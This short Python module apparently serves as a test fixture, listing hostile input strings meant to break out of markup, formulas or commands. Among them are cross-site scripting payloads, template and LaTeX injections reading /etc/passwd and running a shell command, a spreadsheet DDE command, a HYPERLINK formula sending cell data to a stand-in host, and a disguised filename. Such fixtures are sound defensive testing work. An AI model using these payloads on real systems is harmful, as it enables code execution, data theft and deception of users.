"""Texts that try to be something else: markup, a formula, a command, an entry of their own."""

from __future__ import annotations

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><!--",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "]]>&amp;<![CDATA[",
    "| a | b |\n|-|-|",
    "`code` **bold** _it_ [a](javascript:alert(1)) ![i](http://x/y.png)",
    "@everyone #1 https://example.org www.example.org",
    "</details><details>",
    "$x^2$ ~~gone~~ \\| \\",
    "[red]markup[/red] :smile: [link=http://x]y[/link]",
    "\x1b[31mred\x1b[0m\x00\x07\x85\u2028",
    "\u202egnp.exe\u200b\ufeff\ufffe\ud800",
    "```\nrm -rf\n```",
    "{{ 7*7 }} {% raw %}",
    "<!-- x -->",
    '=HYPERLINK("http://x/y?"&A1,"ok")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\input{/etc/passwd}\\write18{id}%",
    "}, note = {forged}}\n@misc{other, title = {x}",
    "%{customdata[0]}<extra>%{x}</extra>",
]
